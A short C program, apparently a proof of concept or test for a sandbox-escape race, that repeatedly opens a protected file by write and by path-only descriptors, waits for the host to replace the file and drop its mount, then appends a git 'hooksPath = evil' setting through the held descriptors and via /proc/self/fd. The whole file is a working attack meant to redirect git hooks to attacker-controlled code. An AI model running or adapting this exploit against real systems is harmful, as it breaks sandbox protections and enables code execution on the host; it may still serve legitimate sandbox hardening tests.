/*
 * Waits for the moment in which the host replaces a protected file and its mount is gone.
 *
 *	window FILE GO: open FILE for writing and by name only (O_PATH), again and again, and keep
 *	what was opened until GO exists; then write through all of it.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { KEPT = 200 };

static void write_evil(int fd)
{
	static const char evil[] = "\n[core]\n\thooksPath = evil\n";
	ssize_t n = write(fd, evil, sizeof(evil) - 1);

	(void)n;
}

int main(int argc, char **argv)
{
	int writable[KEPT], named[KEPT], nwritable = 0, nnamed = 0;
	struct stat last = { 0 }, st;

	if (argc != 3)
		return 2;
	for (unsigned long i = 0; i % 64 != 0 || access(argv[2], F_OK) < 0; i++) {
		int fd = nwritable < KEPT ? open(argv[1], O_WRONLY | O_APPEND) : -1;

		if (fd >= 0)
			writable[nwritable++] = fd;
		fd = nnamed < KEPT ? open(argv[1], O_PATH) : -1;
		if (fd >= 0 && fstat(fd, &st) == 0 && st.st_ino != last.st_ino) {
			named[nnamed++] = fd;
			last = st;
		} else if (fd >= 0) {
			close(fd);
		}
	}
	for (int i = 0; i < nwritable; i++)
		write_evil(writable[i]);
	for (int i = 0; i < nnamed; i++) {
		char path[32];
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", named[i]);
		fd = open(path, O_WRONLY | O_APPEND);
		if (fd >= 0)
			write_evil(fd);
	}
	printf("opened %d for writing, %d by name\n", nwritable, nnamed);
	return 0;
}
